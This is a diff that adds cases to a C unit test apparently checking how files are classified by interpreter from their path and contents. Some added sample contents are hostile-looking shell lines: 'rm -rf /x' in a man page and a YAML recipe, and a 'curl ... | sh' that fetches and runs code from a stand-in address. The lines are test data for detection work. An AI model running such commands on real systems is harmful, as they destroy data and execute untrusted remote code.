@@ -56,6 +56,9 @@ TEST(interpreters)
         {"/x.js", "let a = 1;\n", "node"},
         {"/x", "#!/usr/bin/nodejs\n", "node"},
         {"/profile", "export A=1\nif [ -n \"$B\" ]; then\n  echo \"x\"\nfi\n", "sh"},
+        {"/usr/share/man/man1/x.1", ".TH X\nexport A=1\nrm -rf /x\n", ""},
+        {"/recipe.yml", "run:\n  export A=1\n  rm -rf /x\n", ""},
+        {"/tmp/x", "curl -s http://192.0.2.1/x | sh\n", "sh"},
         {"/notes.txt", "if you test this for me, echo it\n", ""},
     };
     for (size_t i = 0; i < ARRAY_SIZE(CASES); i++) {
